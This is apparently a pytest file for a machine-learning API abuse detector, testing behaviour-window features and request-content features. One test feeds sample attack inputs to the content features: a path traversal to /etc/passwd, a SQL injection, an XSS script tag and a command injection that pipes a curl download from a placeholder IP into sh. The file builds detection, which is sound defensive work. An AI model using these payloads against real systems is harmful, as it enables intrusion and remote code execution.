"""Entity behaviour windows and request content features."""

from __future__ import annotations

from typing import Any

import numpy as np
import pytest

from detectors.ml.features.behaviour import BehaviourConfig, BehaviourRows, EntityBehaviour, feature_names
from detectors.ml.features.columns import FIELDS_READ, columns_from_docs, epoch_minute
from detectors.ml.features.content import FEATURES, RequestContent
from detectors.ml.features.content import FIELDS_READ as CONTENT_FIELDS
from ingest.ecs import EVENT_FIELDS

from .conftest import docs


def doc(minute: int, second: int = 0, *, key: str = "k1", ip: str = "198.51.100.1", status: int = 200,
        path: str = "/v1/models", ua: str = "sdk/1", bytes_out: int = 100, **extra: Any) -> dict[str, Any]:  # fmt: skip
    d: dict[str, Any] = {
        "@timestamp": f"2026-11-02T08:{minute:02d}:{second:02d}.000Z",
        "http": {"request": {"method": "GET"}, "response": {"status_code": status, "bytes": bytes_out}},
        "url": {"path": path},
        "logwarden": {"api": {"route": path, "key_id": key, "latency_ms": 10.0}},
        "source": {"ip": ip},
        "user": {"id": "u1"},
        "organization": {"id": "o1"},
        "user_agent": {"original": ua},
    }
    d.update(extra)
    return d


def rows_by(rows: list[BehaviourRows], etype: str) -> dict[tuple[str, int], np.ndarray]:
    return {(k, r.bucket): r.X[i] for r in rows if r.entity_type == etype for i, k in enumerate(r.keys)}


def test_features_read_only_catalogued_fields() -> None:
    assert set(FIELDS_READ) <= set(EVENT_FIELDS)
    assert set(CONTENT_FIELDS) <= set(EVENT_FIELDS)


def test_epoch_minute_accepts_iso_forms() -> None:
    assert epoch_minute("2026-11-02T08:00:00.000Z") == epoch_minute("2026-11-02T09:00:30+01:00")
    assert epoch_minute("2026-11-02T08:01:00Z") - epoch_minute("2026-11-02T08:00:59.999Z") == 1


def test_windows_count_errors_distinct_values_and_first_seen() -> None:
    eb = EntityBehaviour(BehaviourConfig(windows=(1, 5)))
    names = feature_names(eb.config)
    batch = [doc(0, s, ip=f"198.51.100.{s}", status=401 if s % 2 else 200) for s in range(10)]
    batch += [doc(1, 5), doc(3, 0)]  # minute 3 closes minute 1 (lateness 1 hop) and minute 0
    rows = eb.process(columns_from_docs(batch))
    key_rows = rows_by(rows, "api_key")
    assert set(key_rows) == {
        ("k1", epoch_minute(batch[0]["@timestamp"])),
        ("k1", epoch_minute(batch[10]["@timestamp"])),
    }
    first = key_rows["k1", epoch_minute(batch[0]["@timestamp"])]
    f = dict(zip(names, first, strict=True))
    assert np.expm1(f["requests_1m"]) == pytest.approx(10)
    assert f["error_ratio_1m"] == pytest.approx(0.5)
    assert np.expm1(f["status_401_1m"]) == pytest.approx(5)
    assert 7 <= np.expm1(f["ips_1m"]) <= 13  # linear counting, approximate
    assert f["new_entity"] == 1.0 and np.expm1(f["new_ips"]) >= 6
    second = dict(zip(names, key_rows["k1", epoch_minute(batch[10]["@timestamp"])], strict=True))
    assert np.expm1(second["requests_1m"]) == pytest.approx(1)
    assert np.expm1(second["requests_5m"]) == pytest.approx(11), "the 5-minute window holds both minutes"
    assert second["new_entity"] == 0.0 and second["new_ips"] == 0.0, "the IP was learned after the first row"


def test_late_events_are_counted_and_left_out() -> None:
    eb = EntityBehaviour(BehaviourConfig(windows=(1, 5)))
    eb.process(columns_from_docs([doc(0), doc(5)]))
    eb.process(columns_from_docs([doc(1)]))
    assert eb.late_events == 1


def test_flagged_rows_are_not_learned() -> None:
    def refuse(rows: BehaviourRows) -> np.ndarray:
        return np.zeros(len(rows.keys), dtype=bool)

    eb = EntityBehaviour(BehaviourConfig(windows=(1, 5)))
    eb.process(columns_from_docs([doc(0, ip="203.0.113.9"), doc(2)]), refuse)
    table = eb.tables["api_key"]
    row = table.index["k1"]
    assert table.n_obs[row] == 0 and table.seen[row].sum() == 0
    eb.process(columns_from_docs([doc(4)]))
    assert table.n_obs[row] == 1


def test_flush_closes_every_window_and_same_input_same_rows() -> None:
    data = docs(20)
    a, b = EntityBehaviour(), EntityBehaviour()
    rows_a = a.process(columns_from_docs(data)) + a.flush()
    rows_b = b.process(columns_from_docs(data[:3000])) + b.process(columns_from_docs(data[3000:])) + b.flush()
    exact = [i for i, n in enumerate(a.feature_names) if not n.startswith("latency_p95")]  # p95: max of batch p95s
    key = lambda rows: sorted((r.entity_type, r.bucket, k, tuple(np.round(r.X[i, exact], 5)))  # noqa: E731
                              for r in rows for i, k in enumerate(r.keys))  # fmt: skip
    assert key(rows_a) == key(rows_b), "batching does not change the rows (but the approximate latency p95)"
    assert sum(len(r.keys) for r in rows_a) > 1000
    assert all(np.isfinite(r.X).all() for r in rows_a)


def test_state_per_entity_stays_under_two_kilobytes() -> None:
    eb = EntityBehaviour()
    table = eb.tables["api_key"]
    assert table.bytes_per_entity() <= 1500  # arrays; the key string and index entry come on top (bench/bench_ml.py)


def test_eviction_forgets_idle_entities() -> None:
    eb = EntityBehaviour(BehaviourConfig(windows=(1, 5), idle_ttl_minutes=10))
    eb.process(columns_from_docs([doc(0, key="old"), doc(1, key="k1")]))
    eb.process(columns_from_docs([doc(m % 60, key="k1") for m in range(2, 30)]))
    assert "old" not in eb.tables["api_key"].index and "k1" in eb.tables["api_key"].index


def test_content_features_see_payloads() -> None:
    rc = RequestContent().fit(docs(10))
    normal = doc(0, path="/v1/files", extra=None)
    attacks = [
        doc(0, path="/v1/files/../../../../etc/passwd"),
        {**doc(0, path="/v1/files"), "url": {"path": "/v1/files", "query": "purpose=' OR '1'='1--"}},
        {**doc(0), "http": {"request": {"method": "POST", "body": {"content": '{"name":"<script>alert(1)</script>"}'}},
                           "response": {"status_code": 400}}},
        {**doc(0), "url": {"path": "/v1/files", "query": "q=$(curl -s http://203.0.113.9/x|sh)"}},
    ]  # fmt: skip
    X = rc.transform([normal, *attacks])
    f = {n: X[:, i] for i, n in enumerate(FEATURES)}
    assert f["seq_traversal"][1] > 0 and f["seq_system"][1] > 0
    assert f["seq_quotes"][2] > 0 and f["seq_sql"][2] > 0 and f["unknown_params"][2] == 0
    assert f["seq_script"][3] > 0 and f["seq_angle"][3] > 0 and f["body_length"][3] > 0
    assert f["seq_shell"][4] > 0 and f["unknown_params"][4] == 1
    assert (X[0, [FEATURES.index(n) for n in FEATURES if n.startswith("seq_")]] == 0).all()
    assert rc.transform([]).shape == (0, len(FEATURES))


def test_request_bodies_reach_the_ecs_document() -> None:
    data = docs(20, ("payload_attack",))
    with_body = [d for d in data if d["http"]["request"].get("body", {}).get("content")]
    assert with_body and all(d["labels"]["scenario"] == "payload_attack" for d in with_body)
    assert "http.request.body.content" in EVENT_FIELDS
